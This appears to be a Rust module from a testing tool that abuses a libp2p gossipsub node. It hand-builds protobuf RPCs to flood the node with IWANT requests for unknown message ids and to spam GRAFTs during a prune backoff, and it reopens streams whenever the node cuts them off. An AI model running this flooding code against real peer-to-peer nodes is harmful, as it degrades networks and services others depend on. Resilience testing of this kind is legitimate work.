//! Kinds `iwant-flood` and `graft-spam`: gossipsub control messages written by hand on a raw
//! `/meshsub/1.1.0` stream.
//!
//! Why by hand: rust-libp2p's gossipsub sends control messages only as its own protocol logic
//! decides (IWANT for ids a peer advertised, GRAFT when its mesh needs a peer) and exposes no
//! way to send arbitrary ones; its protobuf types are private. The RPC is a small protobuf
//! (gossipsub's `rpc.proto`), length-prefixed with an unsigned varint per frame, so the few
//! fields used here are encoded directly rather than pulling in a protobuf code generator.
//!
//! - `iwant-flood`: after subscribing, IWANT RPCs of `--iwant-ids` 20-byte message ids, each new
//!   (ids the node never had; [`IWANT_IDS`] by default, the most one RPC may carry), written as
//!   fast as the node reads them, paced at `--rate` bytes a second.
//! - `graft-spam`: subscribe, PRUNE ourselves from every blocks topic with a 60 s backoff (the
//!   node records the backoff), then GRAFT on every topic [`GRAFTS_PER_SECOND`] times a second:
//!   each GRAFT within a backoff is gossipsub's behaviour penalty (P7).
//!
//! The stream: rust-libp2p's gossipsub reads one long-lived inbound stream per connection and
//! never writes on it. When its codec refuses an RPC (one whose control part exceeds
//! `max_control_message_size`, 16 KiB by default) it closes its side (FIN) and drops the
//! stream; yamux then discards whatever we still send on it without a reset and without ever
//! granting more credit, so our writes just stop completing. So we read our own stream too:
//! its end (or a reset) is the node refusing us, counted as `closed_by_node`, and a write that
//! makes no progress for [`STALL`] is counted as a stall; either way the stream is replaced.
//! gossipsub takes 4 inbound streams per connection: the 5th disables its handler for the
//! connection, which refuses the protocol from then on (counted as `refused`).

use std::{
    sync::{
        Arc, Mutex, OnceLock,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use futures::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use libp2p_identity::PeerId;
use libp2p_stream::OpenStreamError;
use libp2p_swarm::StreamProtocol;
use tokio::time::Instant;

/// The gossipsub protocol spoken (the node also speaks 1.2.0; 1.1.0 has every message used).
pub(crate) const MESHSUB: StreamProtocol = StreamProtocol::new("/meshsub/1.1.0");
/// The cap on the control part of one RPC (subscriptions and control message, with their
/// protobuf tags and lengths) of rust-libp2p's gossipsub codec: its `max_control_message_size`
/// default, which op-p2p keeps. An RPC over it is refused and the stream closed.
pub(crate) const MAX_CONTROL_SIZE: usize = 16 * 1024;
/// Message ids per IWANT RPC by default: the most that fit in [`MAX_CONTROL_SIZE`], 744 (22
/// bytes an id: tag, length and 20 bytes; 6 bytes of tags and 2-byte lengths around them).
pub(crate) const IWANT_IDS: usize = (MAX_CONTROL_SIZE - 6) / 22;
/// GRAFT RPCs a second.
pub(crate) const GRAFTS_PER_SECOND: u64 = 20;
/// The backoff our PRUNE asks for, seconds.
const PRUNE_BACKOFF_SECS: u64 = 60;
/// A write that makes no progress for this long is a stalled stream (the node no longer reads
/// it), replaced like a closed one.
const STALL: Duration = Duration::from_secs(5);
/// The pause before replacing a stream, or retrying a failed open.
const RETRY: Duration = Duration::from_millis(200);

/// Counters of the control kinds.
#[derive(Debug, Default)]
pub(crate) struct Counters {
    /// RPC frames written.
    pub(crate) rpcs: AtomicU64,
    /// Bytes written.
    pub(crate) bytes: AtomicU64,
    /// Message ids asked for, in IWANT RPCs fully written.
    pub(crate) iwant_ids: AtomicU64,
    /// GRAFT control messages sent (one per topic).
    pub(crate) grafts: AtomicU64,
    /// Bytes the node sent us on its own stream (drained unread).
    pub(crate) inbound_bytes: AtomicU64,
    /// Streams opened.
    pub(crate) streams: AtomicU64,
    /// Streams the node closed or reset (it refused an RPC).
    pub(crate) closed_by_node: AtomicU64,
    /// Streams whose write made no progress for [`STALL`].
    pub(crate) stalls: AtomicU64,
    /// Opens the node refused the protocol for (its gossipsub handler disabled itself).
    pub(crate) refused: AtomicU64,
    /// Other failures: opens that failed or timed out, writes that failed.
    pub(crate) stream_errors: AtomicU64,
    /// When the first IWANT RPC was written.
    first_iwant: OnceLock<std::time::Instant>,
    /// Milliseconds from the first to the last IWANT RPC written.
    flood_ms: AtomicU64,
    /// The last thing that went wrong with a stream, for the report.
    last_error: Mutex<String>,
}

impl Counters {
    pub(crate) fn fields(&self) -> Vec<(&'static str, serde_json::Value)> {
        let load = |c: &AtomicU64| c.load(Ordering::Relaxed);
        let flood_ms = load(&self.flood_ms);
        let ids_per_second = load(&self.iwant_ids)
            .saturating_mul(1000)
            .checked_div(flood_ms)
            .unwrap_or(0);
        let last_error = self
            .last_error
            .lock()
            .map(|e| e.clone())
            .unwrap_or_default();
        vec![
            ("rpcs", load(&self.rpcs).into()),
            ("bytes", load(&self.bytes).into()),
            ("iwant_ids", load(&self.iwant_ids).into()),
            ("flood_ms", flood_ms.into()),
            ("iwant_ids_per_s", ids_per_second.into()),
            ("grafts", load(&self.grafts).into()),
            ("inbound_bytes", load(&self.inbound_bytes).into()),
            ("streams", load(&self.streams).into()),
            ("closed_by_node", load(&self.closed_by_node).into()),
            ("stalls", load(&self.stalls).into()),
            ("refused", load(&self.refused).into()),
            ("stream_errors", load(&self.stream_errors).into()),
            ("last_error", last_error.into()),
        ]
    }

    /// Counts one more in `counter` and keeps `why` as the last error.
    fn fail(&self, counter: &AtomicU64, why: String) {
        counter.fetch_add(1, Ordering::Relaxed);
        if let Ok(mut last) = self.last_error.lock() {
            *last = why;
        }
    }

    /// Counts an IWANT RPC of `ids` ids fully written.
    fn iwant_written(&self, ids: usize) {
        self.iwant_ids.fetch_add(ids as u64, Ordering::Relaxed);
        let first = *self.first_iwant.get_or_init(std::time::Instant::now);
        self.flood_ms
            .store(first.elapsed().as_millis() as u64, Ordering::Relaxed);
    }
}

/// Which control abuse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Abuse {
    /// IWANT for unknown ids, `ids` per RPC.
    Iwant {
        /// Message ids per RPC.
        ids: usize,
    },
    /// GRAFT while backing off.
    Graft,
}

/// Accepts the node's gossipsub streams on `control` and reads them to nowhere, so its
/// gossipsub keeps the connection enabled (a peer that refuses the protocol is disabled).
pub(crate) fn drain_inbound(control: &mut libp2p_stream::Control, counters: Arc<Counters>) {
    let Ok(mut incoming) = control.accept(MESHSUB) else {
        return;
    };
    tokio::spawn(async move {
        use futures::StreamExt as _;
        while let Some((_, mut stream)) = incoming.next().await {
            let counters = counters.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 64 * 1024];
                while let Ok(n) = stream.read(&mut buf).await {
                    if n == 0 {
                        return;
                    }
                    counters
                        .inbound_bytes
                        .fetch_add(n as u64, Ordering::Relaxed);
                }
            });
        }
    });
}

/// Why a stream of ours ended before the attack did.
#[derive(Debug)]
enum Broken {
    /// A write failed.
    Write(std::io::Error),
    /// A write made no progress for [`STALL`].
    Stalled,
}

/// Writes `abuse` to `target` on a stream of `control` until `end`, replacing the stream
/// whenever the node closes it, it stalls or it fails while `connected`.
#[allow(clippy::too_many_arguments)]
pub(crate) async fn run(
    mut control: libp2p_stream::Control,
    connected: Arc<std::sync::atomic::AtomicBool>,
    target: PeerId,
    topics: Vec<String>,
    abuse: Abuse,
    rate: u64,
    end: Instant,
    counters: Arc<Counters>,
) {
    let mut n = 0u64;
    while Instant::now() < end {
        if !connected.load(Ordering::Relaxed) {
            tokio::time::sleep(RETRY).await;
            continue;
        }
        let stream = match tokio::time::timeout(
            Duration::from_secs(10),
            control.open_stream(target, MESHSUB),
        )
        .await
        {
            Ok(Ok(stream)) => stream,
            Ok(Err(OpenStreamError::UnsupportedProtocol(protocol))) => {
                counters.fail(&counters.refused, format!("open refused: {protocol}"));
                tokio::time::sleep(RETRY).await;
                continue;
            }
            Ok(Err(error)) => {
                counters.fail(&counters.stream_errors, format!("open: {error}"));
                tokio::time::sleep(RETRY).await;
                continue;
            }
            Err(_) => {
                counters.fail(&counters.stream_errors, "open: timed out".to_owned());
                tokio::time::sleep(RETRY).await;
                continue;
            }
        };
        counters.streams.fetch_add(1, Ordering::Relaxed);
        let (mut reader, mut writer) = stream.split();
        let (counter, why) = tokio::select! {
            () = tokio::time::sleep_until(end) => return,
            // The node never writes on a stream we opened: a read ends only when it closes
            // its side (after refusing an RPC) or resets the stream.
            why = closed(&mut reader) => (&counters.closed_by_node, why),
            broken = write(&mut writer, &topics, abuse, rate, &mut n, &counters) => match broken {
                Broken::Write(error) => (&counters.stream_errors, format!("write: {error}")),
                Broken::Stalled => (&counters.stalls, format!("write stalled for {STALL:?}")),
            },
        };
        // Our swarm closes the connection at `end` too: what breaks then is not the node's doing.
        if Instant::now() >= end {
            return;
        }
        counters.fail(counter, why);
        tokio::time::sleep(RETRY).await;
    }
}

/// Waits for the node to close or reset our stream; says which.
async fn closed(reader: &mut (impl AsyncRead + Unpin)) -> String {
    let mut buf = [0u8; 256];
    loop {
        match reader.read(&mut buf).await {
            Ok(0) => return "closed by the node".to_owned(),
            Ok(_) => {}
            Err(error) => return format!("read: {error}"),
        }
    }
}

/// Writes the subscription (and for GRAFT spam the PRUNE), then `abuse` until the stream
/// breaks; returns why. `n` numbers the IWANT RPCs across streams so every id is new.
async fn write(
    writer: &mut (impl AsyncWrite + Unpin),
    topics: &[String],
    abuse: Abuse,
    rate: u64,
    n: &mut u64,
    counters: &Counters,
) -> Broken {
    if let Err(broken) = send(writer, &subscribe(topics), counters).await {
        return broken;
    }
    if abuse == Abuse::Graft
        && let Err(broken) = send(writer, &prune(topics, PRUNE_BACKOFF_SECS), counters).await
    {
        return broken;
    }
    let started = Instant::now();
    let mut sent_bytes = 0u64;
    loop {
        match abuse {
            Abuse::Iwant { ids } => {
                let frame = iwant(*n, ids);
                *n += 1;
                if let Err(broken) = send(writer, &frame, counters).await {
                    return broken;
                }
                counters.iwant_written(ids);
                sent_bytes += frame.len() as u64;
                // Pace at `rate` bytes a second.
                let due = started + Duration::from_secs_f64(sent_bytes as f64 / rate.max(1) as f64);
                tokio::time::sleep_until(due).await;
            }
            Abuse::Graft => {
                if let Err(broken) = send(writer, &graft(topics), counters).await {
                    return broken;
                }
                counters
                    .grafts
                    .fetch_add(topics.len() as u64, Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(1000 / GRAFTS_PER_SECOND)).await;
            }
        }
    }
}

/// Writes one RPC frame, counted once fully written (yamux accepted it: the node granted the
/// credit, by reading what came before).
async fn send(
    writer: &mut (impl AsyncWrite + Unpin),
    frame: &[u8],
    counters: &Counters,
) -> Result<(), Broken> {
    match tokio::time::timeout(STALL, writer.write_all(frame)).await {
        Ok(Ok(())) => {
            counters.rpcs.fetch_add(1, Ordering::Relaxed);
            counters
                .bytes
                .fetch_add(frame.len() as u64, Ordering::Relaxed);
            Ok(())
        }
        Ok(Err(error)) => Err(Broken::Write(error)),
        Err(_) => Err(Broken::Stalled),
    }
}

/// RPC { subscriptions: [SubOpts { subscribe: true, topic_id }] } for every topic.
fn subscribe(topics: &[String]) -> Vec<u8> {
    let mut rpc = Vec::new();
    for topic in topics {
        let mut sub = Vec::new();
        varint_field(&mut sub, 1, 1);
        bytes_field(&mut sub, 2, topic.as_bytes());
        bytes_field(&mut rpc, 1, &sub);
    }
    frame(&rpc)
}

/// RPC { control: { iwant: [{ message_ids: `ids` ids never published }] } }; RPC `n` of the
/// run (its ids are distinct from every other RPC's).
fn iwant(n: u64, ids: usize) -> Vec<u8> {
    let mut want = Vec::with_capacity(ids * 22);
    for i in 0..ids as u64 {
        let mut id = [0u8; 20];
        id[..8].copy_from_slice(&n.to_le_bytes());
        id[8..16].copy_from_slice(&i.to_le_bytes());
        id[16..].copy_from_slice(b"junk");
        bytes_field(&mut want, 1, &id);
    }
    let mut control = Vec::new();
    bytes_field(&mut control, 2, &want);
    let mut rpc = Vec::new();
    bytes_field(&mut rpc, 3, &control);
    frame(&rpc)
}

/// RPC { control: { graft: [{ topic_id }] for every topic } }.
fn graft(topics: &[String]) -> Vec<u8> {
    let mut control = Vec::new();
    for topic in topics {
        let mut graft = Vec::new();
        bytes_field(&mut graft, 1, topic.as_bytes());
        bytes_field(&mut control, 3, &graft);
    }
    let mut rpc = Vec::new();
    bytes_field(&mut rpc, 3, &control);
    frame(&rpc)
}

/// RPC { control: { prune: [{ topic_id, backoff }] for every topic } }.
fn prune(topics: &[String], backoff_secs: u64) -> Vec<u8> {
    let mut control = Vec::new();
    for topic in topics {
        let mut prune = Vec::new();
        bytes_field(&mut prune, 1, topic.as_bytes());
        varint_field(&mut prune, 3, backoff_secs);
        bytes_field(&mut control, 4, &prune);
    }
    let mut rpc = Vec::new();
    bytes_field(&mut rpc, 3, &control);
    frame(&rpc)
}

/// The uvarint length prefix of gossipsub's codec, then `rpc`.
fn frame(rpc: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(rpc.len() + 5);
    varint(&mut out, rpc.len() as u64);
    out.extend_from_slice(rpc);
    out
}

/// A varint field (wire type 0).
fn varint_field(out: &mut Vec<u8>, field: u64, value: u64) {
    varint(out, field << 3);
    varint(out, value);
}

/// A length-delimited field (wire type 2).
fn bytes_field(out: &mut Vec<u8>, field: u64, bytes: &[u8]) {
    varint(out, (field << 3) | 2);
    varint(out, bytes.len() as u64);
    out.extend_from_slice(bytes);
}

fn varint(out: &mut Vec<u8>, mut value: u64) {
    loop {
        let byte = (value & 0x7f) as u8;
        value >>= 7;
        if value == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_what_protobuf_writes() {
        // RPC { control { graft { topic_id: "t" } } }: 1a 05 1a 03 0a 01 74, length-prefixed.
        assert_eq!(
            graft(&["t".to_owned()]),
            [0x07, 0x1a, 0x05, 0x1a, 0x03, 0x0a, 0x01, b't']
        );
        // RPC { subscriptions { subscribe: true, topic_id: "t" } }.
        assert_eq!(
            subscribe(&["t".to_owned()]),
            [0x07, 0x0a, 0x05, 0x08, 0x01, 0x12, 0x01, b't']
        );
        // RPC { control { prune { topic_id: "t", backoff: 60 } } }.
        assert_eq!(
            prune(&["t".to_owned()], 60),
            [0x09, 0x1a, 0x07, 0x22, 0x05, 0x0a, 0x01, b't', 0x18, 60]
        );
        // RPC { control (3) { iwant (2) { message_ids (1): [id] } } }, the id 20 bytes.
        let mut one = vec![0x1a, 0x1a, 0x18, 0x12, 0x16, 0x0a, 0x14];
        one.extend_from_slice(&[0; 16]);
        one.extend_from_slice(b"junk");
        assert_eq!(iwant(0, 1), one);
    }

    /// The control part of an RPC as gossipsub's codec measures it: the frame without its
    /// length prefix (our IWANT RPC has nothing else).
    fn control_size(frame: &[u8]) -> usize {
        let prefix = frame.iter().position(|b| b & 0x80 == 0).unwrap() + 1;
        frame.len() - prefix
    }

    #[test]
    fn the_default_iwant_rpc_is_the_largest_the_node_accepts() {
        let fits = iwant(1, IWANT_IDS);
        assert_eq!(control_size(&fits), 16_374);
        assert!(control_size(&fits) <= MAX_CONTROL_SIZE);
        assert!(control_size(&iwant(1, IWANT_IDS + 1)) > MAX_CONTROL_SIZE);
        // 10,000 ids: ~220 KB, over the cap (under the 10 MiB frame cap).
        assert!(control_size(&iwant(1, 10_000)) > 13 * MAX_CONTROL_SIZE);
    }
}
